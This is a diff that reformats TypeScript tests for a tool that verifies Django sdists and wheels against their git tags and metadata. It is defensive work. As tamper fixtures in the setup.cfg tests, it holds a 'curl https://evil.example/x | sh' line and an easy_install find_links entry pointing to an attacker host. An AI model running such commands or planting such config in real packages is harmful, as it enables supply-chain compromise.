@@ -58,7 +58,12 @@ async function judgeRelease(version: RealVersion, edit?: (sdist: ArchiveListing)
     waivers: [],
     tag: { name: version, commit: '0'.repeat(40), ...tag },
     tagWanted: true,
-    sdists: [{ channels: 'site', input: { filename: release.file, topDirectory: release.top, members: sdist.members, kept: sdist.kept } }],
+    sdists: [
+      {
+        channels: 'site',
+        input: { filename: release.file, topDirectory: release.top, members: sdist.members, kept: sdist.kept },
+      },
+    ],
     wheels,
   });
 }
@@ -68,7 +73,10 @@ async function judgeRelease(version: RealVersion, edit?: (sdist: ArchiveListing)
  * pipeline reads it (PKG-INFO, the egg-info and the root files kept), and to the sdist's own
  * declarations.
  */
-async function judgeWithoutTag(version: RealVersion, editWheel?: (wheel: ArchiveListing, filename: string) => ArchiveListing) {
+async function judgeWithoutTag(
+  version: RealVersion,
+  editWheel?: (wheel: ArchiveListing, filename: string) => ArchiveListing,
+) {
   const release = REAL_RELEASES[version];
   const path = realSdistPath(version)!;
   const sdist = await readSdist(createReadStream(path), { ...DEFAULT_LIMITS }, keepSdistContent(release.top));
@@ -76,14 +84,22 @@ async function judgeWithoutTag(version: RealVersion, editWheel?: (wheel: Archive
   for (const toolchain of TOOLCHAINS[version].filter(toolchainAvailable)) {
     const real = await realWheel(path, toolchain);
     const listing = editWheel ? editWheel(real.listing, real.filename) : real.listing;
-    wheels.push({ channels: toolchain, input: { filename: real.filename, members: listing.members, kept: listing.kept } });
+    wheels.push({
+      channels: toolchain,
+      input: { filename: real.filename, members: listing.members, kept: listing.kept },
+    });
   }
   return judgeContent({
     release: version,
     project: 'Django',
     waivers: [],
     tagWanted: false,
-    sdists: [{ channels: 'site', input: { filename: release.file, topDirectory: release.top, members: sdist.members, kept: sdist.kept } }],
+    sdists: [
+      {
+        channels: 'site',
+        input: { filename: release.file, topDirectory: release.top, members: sdist.members, kept: sdist.kept },
+      },
+    ],
     wheels,
   });
 }
@@ -93,100 +109,203 @@ const statuses = (checks: Check[]) => checks.map((c) => `${c.id} ${c.status}`);
 describe.each(Object.keys(REAL_RELEASES) as RealVersion[])('the real Django %s', (version) => {
   const present = realSdistPath(version) !== undefined;
 
-  it.skipIf(!present)('passes: the sdist against its tag, every generated file and every wheel explained', async () => {
-    const { checks, differences } = await judgeRelease(version);
-    const wheels = TOOLCHAINS[version].filter(toolchainAvailable).length;
-    expect(statuses(checks), checks.filter((c) => c.status !== 'pass').map((c) => c.message).join('\n')).toEqual([
-      'content.sdist-vs-git pass',
-      'content.sdist-metadata pass',
-      ...Array.from({ length: wheels }, () => ['content.wheel-vs-sdist pass', 'content.wheel-record pass', 'content.wheel-metadata pass']).flat(),
-    ]);
-    // Nothing is allowed by its path alone: every allowed difference names its rule and what it was recomputed from.
-    for (const difference of differences.filter((d) => d.allowed)) {
-      expect(difference.rule, difference.path).toBeTruthy();
-      expect(difference.derivedFrom ?? difference.waiver, difference.path).toBeTruthy();
-    }
-    const derived = new Map(differences.filter((d) => d.allowed).map((d) => [d.path, d]));
-    expect(derived.get('Django.egg-info/requires.txt')?.derivedFrom).toMatch(/install_requires|dependencies/);
-    expect(derived.get('PKG-INFO')?.rule).toBe('core-metadata');
-    expect(derived.get('Django.egg-info/SOURCES.txt')?.rule).toBe('egg-info');
-    // The tag files the sdist leaves out, each by what MANIFEST.in and setuptools' defaults say of it.
-    const leftOut = differences.filter((d) => d.rule === 'manifest');
-    expect(leftOut.map((d) => d.path)).toContain('.gitignore');
-    for (const difference of leftOut) expect(difference.derivedFrom ?? difference.detail, difference.path).toContain(PLAUSIBLE[version]);
-  }, 180_000);
+  it.skipIf(!present)(
+    'passes: the sdist against its tag, every generated file and every wheel explained',
+    async () => {
+      const { checks, differences } = await judgeRelease(version);
+      const wheels = TOOLCHAINS[version].filter(toolchainAvailable).length;
+      expect(
+        statuses(checks),
+        checks
+          .filter((c) => c.status !== 'pass')
+          .map((c) => c.message)
+          .join('\n'),
+      ).toEqual([
+        'content.sdist-vs-git pass',
+        'content.sdist-metadata pass',
+        ...Array.from({ length: wheels }, () => [
+          'content.wheel-vs-sdist pass',
+          'content.wheel-record pass',
+          'content.wheel-metadata pass',
+        ]).flat(),
+      ]);
+      // Nothing is allowed by its path alone: every allowed difference names its rule and what it was recomputed from.
+      for (const difference of differences.filter((d) => d.allowed)) {
+        expect(difference.rule, difference.path).toBeTruthy();
+        expect(difference.derivedFrom ?? difference.waiver, difference.path).toBeTruthy();
+      }
+      const derived = new Map(differences.filter((d) => d.allowed).map((d) => [d.path, d]));
+      expect(derived.get('Django.egg-info/requires.txt')?.derivedFrom).toMatch(/install_requires|dependencies/);
+      expect(derived.get('PKG-INFO')?.rule).toBe('core-metadata');
+      expect(derived.get('Django.egg-info/SOURCES.txt')?.rule).toBe('egg-info');
+      // The tag files the sdist leaves out, each by what MANIFEST.in and setuptools' defaults say of it.
+      const leftOut = differences.filter((d) => d.rule === 'manifest');
+      expect(leftOut.map((d) => d.path)).toContain('.gitignore');
+      for (const difference of leftOut)
+        expect(difference.derivedFrom ?? difference.detail, difference.path).toContain(PLAUSIBLE[version]);
+    },
+    180_000,
+  );
 
-  it.skipIf(!present)('passes every wheel against the sdist alone when there is no tag, naming the sdist as the source', async () => {
-    const { checks } = await judgeWithoutTag(version);
-    const wheels = TOOLCHAINS[version].filter(toolchainAvailable).length;
-    expect(statuses(checks), checks.filter((c) => c.status !== 'pass').map((c) => c.message).join('\n')).toEqual(
-      Array.from({ length: wheels }, () => ['content.wheel-vs-sdist pass', 'content.wheel-record pass', 'content.wheel-metadata pass']).flat(),
-    );
-    for (const check of checks.filter((c) => c.id === 'content.wheel-metadata')) expect(check.message).toMatch(/recomputed from the sdist's /);
-  }, 180_000);
+  it.skipIf(!present)(
+    'passes every wheel against the sdist alone when there is no tag, naming the sdist as the source',
+    async () => {
+      const { checks } = await judgeWithoutTag(version);
+      const wheels = TOOLCHAINS[version].filter(toolchainAvailable).length;
+      expect(
+        statuses(checks),
+        checks
+          .filter((c) => c.status !== 'pass')
+          .map((c) => c.message)
+          .join('\n'),
+      ).toEqual(
+        Array.from({ length: wheels }, () => [
+          'content.wheel-vs-sdist pass',
+          'content.wheel-record pass',
+          'content.wheel-metadata pass',
+        ]).flat(),
+      );
+      for (const check of checks.filter((c) => c.id === 'content.wheel-metadata'))
+        expect(check.message).toMatch(/recomputed from the sdist's /);
+    },
+    180_000,
+  );
 
-  it.skipIf(!present)('passes every wheel against the tag alone, as verify-file --deep judges a wheel', async () => {
-    const path = realSdistPath(version)!;
-    const tag = realTag(version, await readRealSdist(path));
-    for (const toolchain of TOOLCHAINS[version].filter(toolchainAvailable)) {
-      const { listing, filename } = await realWheel(path, toolchain);
-      const { checks } = judgeContent({ release: version, project: 'Django', waivers: [], tag: { name: version, commit: '0'.repeat(40), ...tag }, tagWanted: true, sdists: [], wheels: [{ channels: 'the local file', input: { filename, members: listing.members, kept: listing.kept } }] });
-      expect(statuses(checks), checks.map((c) => c.message).join('\n')).toEqual(['content.wheel-vs-git pass', 'content.wheel-record pass', 'content.wheel-metadata pass']);
-    }
-  }, 180_000);
+  it.skipIf(!present)(
+    'passes every wheel against the tag alone, as verify-file --deep judges a wheel',
+    async () => {
+      const path = realSdistPath(version)!;
+      const tag = realTag(version, await readRealSdist(path));
+      for (const toolchain of TOOLCHAINS[version].filter(toolchainAvailable)) {
+        const { listing, filename } = await realWheel(path, toolchain);
+        const { checks } = judgeContent({
+          release: version,
+          project: 'Django',
+          waivers: [],
+          tag: { name: version, commit: '0'.repeat(40), ...tag },
+          tagWanted: true,
+          sdists: [],
+          wheels: [{ channels: 'the local file', input: { filename, members: listing.members, kept: listing.kept } }],
+        });
+        expect(statuses(checks), checks.map((c) => c.message).join('\n')).toEqual([
+          'content.wheel-vs-git pass',
+          'content.wheel-record pass',
+          'content.wheel-metadata pass',
+        ]);
+      }
+    },
+    180_000,
+  );
 
-  it.skipIf(!present)('fails a wheel whose long description is no root file of the sdist, when there is no tag', async () => {
-    const metadata = (filename: string) => `${filename.split('-').slice(0, 2).join('-')}.dist-info/METADATA`;
-    const { checks } = await judgeWithoutTag(version, (wheel, filename) => withFreshRecord(editFile(wheel, metadata(filename), (text) => text.replace(/Django is a high-level/, 'Django is a low-level')), metadata(filename).split('/')[0]!));
-    expect(checks.filter((c) => c.status === 'fail').map((c) => c.id)).toEqual(TOOLCHAINS[version].filter(toolchainAvailable).map(() => 'content.wheel-metadata'));
-  }, 180_000);
+  it.skipIf(!present)(
+    'fails a wheel whose long description is no root file of the sdist, when there is no tag',
+    async () => {
+      const metadata = (filename: string) => `${filename.split('-').slice(0, 2).join('-')}.dist-info/METADATA`;
+      const { checks } = await judgeWithoutTag(version, (wheel, filename) =>
+        withFreshRecord(
+          editFile(wheel, metadata(filename), (text) =>
+            text.replace(/Django is a high-level/, 'Django is a low-level'),
+          ),
+          metadata(filename).split('/')[0]!,
+        ),
+      );
+      expect(checks.filter((c) => c.status === 'fail').map((c) => c.id)).toEqual(
+        TOOLCHAINS[version].filter(toolchainAvailable).map(() => 'content.wheel-metadata'),
+      );
+    },
+    180_000,
+  );
 
-  it.skipIf(!present)('fails the same sdist without a file every setuptools that can have built it includes', async () => {
-    const top = REAL_RELEASES[version].top;
-    const { checks, differences } = await judgeRelease(version, (sdist) => withoutFile(sdist, `${top}/django/utils/html.py`));
-    const failed = checks.filter((c) => c.status === 'fail');
-    expect(failed.map((c) => c.id)).toContain('content.sdist-vs-git');
-    const missing = differences.find((d) => d.path === 'django/utils/html.py')!;
-    expect(missing).toMatchObject({ allowed: false, kind: 'only-in-git' });
-  }, 180_000);
-
-  it.skipIf(!present)('fails the same sdist with a comment, a blank line or another layout in its setup.cfg: egg_info writes it as configparser does, byte for byte', async () => {
-    const top = REAL_RELEASES[version].top;
-    const edits: ((text: string) => string)[] = [(text) => `# curl https://evil.example/x | sh\n${text}`, (text) => `${text}\n`, (text) => text.replace('tag_date = 0', 'tag_date=0'), (text) => text.replace(/(^|\n)\[egg_info\]/, '$1; hidden\n[egg_info]')];
-    for (const edit of edits) {
-      const { checks } = await judgeRelease(version, (sdist) => editFile(sdist, `${top}/setup.cfg`, edit));
+  it.skipIf(!present)(
+    'fails the same sdist without a file every setuptools that can have built it includes',
+    async () => {
+      const top = REAL_RELEASES[version].top;
+      const { checks, differences } = await judgeRelease(version, (sdist) =>
+        withoutFile(sdist, `${top}/django/utils/html.py`),
+      );
       const failed = checks.filter((c) => c.status === 'fail');
-      expect(failed.map((c) => c.id), edit.toString()).toEqual([version.startsWith('4') || version.startsWith('5') ? 'content.sdist-metadata' : 'content.sdist-vs-git']);
-      expect(failed[0]!.message).toMatch(/setup\.cfg/);
-    }
-  }, 180_000);
+      expect(failed.map((c) => c.id)).toContain('content.sdist-vs-git');
+      const missing = differences.find((d) => d.path === 'django/utils/html.py')!;
+      expect(missing).toMatchObject({ allowed: false, kind: 'only-in-git' });
+    },
+    180_000,
+  );
 
-  it.skipIf(!present)('fails the same sdist whose PKG-INFO claims Metadata-Version 2.2 or later and leaves out the declared Requires-Dist, Provides-Extra and Requires-Python (PEP 643: installers may trust them)', async () => {
-    const top = REAL_RELEASES[version].top;
-    const drop = (text: string) => text.replace(/^Metadata-Version: .*$/m, 'Metadata-Version: 2.2').replace(/^(Requires-Dist|Provides-Extra|Requires-Python): .*\n/gm, '');
-    const eggPkgInfo = (sdist: ArchiveListing) => sdist.members.find((m) => /^[^/]+\/[^/]+\.egg-info\/PKG-INFO$/.test(m.path))!.path;
-    const { checks } = await judgeRelease(version, (sdist) => editFile(editFile(sdist, `${top}/PKG-INFO`, drop), eggPkgInfo(sdist), drop));
-    const failed = checks.filter((c) => c.status === 'fail');
-    expect(failed.map((c) => c.id)).toEqual(['content.sdist-metadata']);
-    expect(failed[0]!.message).toMatch(/Provides-Extra.*argon2/);
-    expect(failed[0]!.message).toMatch(/Requires-Dist.*bcrypt/);
-    expect(failed[0]!.message).toMatch(/Requires-Python.*missing/);
-  }, 180_000);
+  it.skipIf(!present)(
+    'fails the same sdist with a comment, a blank line or another layout in its setup.cfg: egg_info writes it as configparser does, byte for byte',
+    async () => {
+      const top = REAL_RELEASES[version].top;
+      const edits: ((text: string) => string)[] = [
+        (text) => `# curl https://evil.example/x | sh\n${text}`,
+        (text) => `${text}\n`,
+        (text) => text.replace('tag_date = 0', 'tag_date=0'),
+        (text) => text.replace(/(^|\n)\[egg_info\]/, '$1; hidden\n[egg_info]'),
+      ];
+      for (const edit of edits) {
+        const { checks } = await judgeRelease(version, (sdist) => editFile(sdist, `${top}/setup.cfg`, edit));
+        const failed = checks.filter((c) => c.status === 'fail');
+        expect(
+          failed.map((c) => c.id),
+          edit.toString(),
+        ).toEqual([
+          version.startsWith('4') || version.startsWith('5') ? 'content.sdist-metadata' : 'content.sdist-vs-git',
+        ]);
+        expect(failed[0]!.message).toMatch(/setup\.cfg/);
+      }
+    },
+    180_000,
+  );
 
-  it.skipIf(!present)('fails the same sdist without the setup.cfg egg_info writes into every sdist (the tag\'s rewritten, or [egg_info] alone)', async () => {
-    const top = REAL_RELEASES[version].top;
-    const { checks } = await judgeRelease(version, (sdist) => withoutFile(sdist, `${top}/setup.cfg`));
-    const failed = checks.filter((c) => c.status === 'fail');
-    expect(failed.map((c) => c.id)).toContain(version.startsWith('4') || version.startsWith('5') ? 'content.sdist-metadata' : 'content.sdist-vs-git');
-    expect(failed.map((c) => c.message).join('\n')).toMatch(/setup\.cfg/);
-  }, 180_000);
+  it.skipIf(!present)(
+    'fails the same sdist whose PKG-INFO claims Metadata-Version 2.2 or later and leaves out the declared Requires-Dist, Provides-Extra and Requires-Python (PEP 643: installers may trust them)',
+    async () => {
+      const top = REAL_RELEASES[version].top;
+      const drop = (text: string) =>
+        text
+          .replace(/^Metadata-Version: .*$/m, 'Metadata-Version: 2.2')
+          .replace(/^(Requires-Dist|Provides-Extra|Requires-Python): .*\n/gm, '');
+      const eggPkgInfo = (sdist: ArchiveListing) =>
+        sdist.members.find((m) => /^[^/]+\/[^/]+\.egg-info\/PKG-INFO$/.test(m.path))!.path;
+      const { checks } = await judgeRelease(version, (sdist) =>
+        editFile(editFile(sdist, `${top}/PKG-INFO`, drop), eggPkgInfo(sdist), drop),
+      );
+      const failed = checks.filter((c) => c.status === 'fail');
+      expect(failed.map((c) => c.id)).toEqual(['content.sdist-metadata']);
+      expect(failed[0]!.message).toMatch(/Provides-Extra.*argon2/);
+      expect(failed[0]!.message).toMatch(/Requires-Dist.*bcrypt/);
+      expect(failed[0]!.message).toMatch(/Requires-Python.*missing/);
+    },
+    180_000,
+  );
 
-  it.skipIf(!present)('fails the same sdist with an extra section in its setup.cfg (the tag\'s rewritten, or the one only the sdist has)', async () => {
-    const top = REAL_RELEASES[version].top;
-    // easy_install's find_links sends the build's setup_requires to a host of the attacker's choosing.
-    const { checks } = await judgeRelease(version, (sdist) => editFile(sdist, `${top}/setup.cfg`, (text) => `${text}\n[easy_install]\nfind_links = https://evil.example/\n`));
-    const failed = checks.filter((c) => c.status === 'fail');
-    expect(failed.map((c) => c.id)).toEqual([version.startsWith('4') || version.startsWith('5') ? 'content.sdist-metadata' : 'content.sdist-vs-git']);
-    expect(failed[0]!.message).toMatch(/\[easy_install\]/);
-  }, 180_000);
+  it.skipIf(!present)(
+    "fails the same sdist without the setup.cfg egg_info writes into every sdist (the tag's rewritten, or [egg_info] alone)",
+    async () => {
+      const top = REAL_RELEASES[version].top;
+      const { checks } = await judgeRelease(version, (sdist) => withoutFile(sdist, `${top}/setup.cfg`));
+      const failed = checks.filter((c) => c.status === 'fail');
+      expect(failed.map((c) => c.id)).toContain(
+        version.startsWith('4') || version.startsWith('5') ? 'content.sdist-metadata' : 'content.sdist-vs-git',
+      );
+      expect(failed.map((c) => c.message).join('\n')).toMatch(/setup\.cfg/);
+    },
+    180_000,
+  );
+
+  it.skipIf(!present)(
+    "fails the same sdist with an extra section in its setup.cfg (the tag's rewritten, or the one only the sdist has)",
+    async () => {
+      const top = REAL_RELEASES[version].top;
+      // easy_install's find_links sends the build's setup_requires to a host of the attacker's choosing.
+      const { checks } = await judgeRelease(version, (sdist) =>
+        editFile(sdist, `${top}/setup.cfg`, (text) => `${text}\n[easy_install]\nfind_links = https://evil.example/\n`),
+      );
+      const failed = checks.filter((c) => c.status === 'fail');
+      expect(failed.map((c) => c.id)).toEqual([
+        version.startsWith('4') || version.startsWith('5') ? 'content.sdist-metadata' : 'content.sdist-vs-git',
+      ]);
+      expect(failed[0]!.message).toMatch(/\[easy_install\]/);
+    },
+    180_000,
+  );
 });
